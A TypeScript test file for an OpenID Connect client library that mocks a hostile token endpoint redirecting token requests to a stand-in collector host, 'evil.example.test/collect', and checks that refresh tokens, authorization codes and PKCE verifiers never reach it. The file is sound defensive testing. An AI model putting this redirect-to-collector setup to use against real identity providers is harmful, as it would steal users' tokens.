import { expect } from '@open-wc/testing';
import { HttpResponse, http } from 'msw';
import { CalloutErrorCode } from '../../src/index.js';
import { expectFailure } from '../support/expect-failure.js';
import { useMsw } from '../support/msw-worker.js';
import { failOnUnhandledRejections } from '../support/no-unhandled-rejections.js';
import { cleanUpAfterEach, type Victim, victimApp } from '../support/oidc-attacker.js';

/** The host a hostile or compromised token endpoint redirects to. */
const evil = 'https://evil.example.test/collect';
const cors = { 'access-control-allow-origin': '*', 'access-control-expose-headers': '*' };

/**
 * Attacker: a token endpoint (or a proxy in front of it) that answers the browser's token request
 * with a redirect to another host: with 307/308 a browser that follows sends the same body — the
 * refresh token, or the authorization code with its PKCE verifier — to that host.
 */
describe('the OpenID Connect token endpoint redirects a token request to another host', () => {
  const msw = useMsw();
  failOnUnhandledRejections();
  const keep = cleanUpAfterEach();

  /** Installs `status` redirects from the token and revocation endpoints to `evil`; returns what `evil` received. */
  function redirecting(v: Victim, status: number): string[] {
    const received: string[] = [];
    const away = () => new HttpResponse(null, { status, headers: { location: evil, ...cors } });
    msw.use(
      http.post(v.idp.tokenEndpoint, away),
      http.post(v.idp.revocationEndpoint, away),
      http.all(evil, async ({ request }) => {
        received.push(await request.text());
        return HttpResponse.json({ error: 'invalid_grant' }, { status: 400, headers: cors });
      }),
    );
    return received;
  }

  for (const status of [307, 308]) {
    it(`sends the refresh token to no other host when the token endpoint answers ${status} to a refresh`, async () => {
      const v = keep.victim(victimApp(msw.use));
      await v.callout('callout:Orders/orders').json();
      v.idp.state.session = undefined; // The iframe cannot help: the refresh is the one request.
      const received = redirecting(v, status);
      const error = await expectFailure(v.callout.token('Orders', { forceRefresh: true }));
      expect(received, 'request bodies the other host received').to.deep.equal([]);
      expect(error.code).to.equal(CalloutErrorCode.redirectNotFollowed);
      expect(error.hint).to.contain(v.idp.host);
    });

    it(`sends the code and PKCE verifier to no other host when the token endpoint answers ${status} to a code redemption`, async () => {
      const v = keep.victim(victimApp(msw.use));
      const received = redirecting(v, status);
      const error = await expectFailure(v.callout.token('Orders'));
      expect(v.idp.counters.silentAuthorize, 'a code was issued').to.equal(1);
      expect(received, 'request bodies the other host received').to.deep.equal([]);
      expect(error.code).to.equal(CalloutErrorCode.redirectNotFollowed);
      expect(v.provider.account).to.equal(undefined);
    });
  }

  it('sends the refresh token to no other host when the revocation endpoint answers 307 at sign-out (user kept in sessionStorage)', async () => {
    const v = keep.victim(victimApp(msw.use, { store: 'session' }));
    await v.callout('callout:Orders/orders').json();
    const received = redirecting(v, 307);
    await v.callout.signOut();
    expect(received).to.deep.equal([]);
    sessionStorage.clear();
  });
});
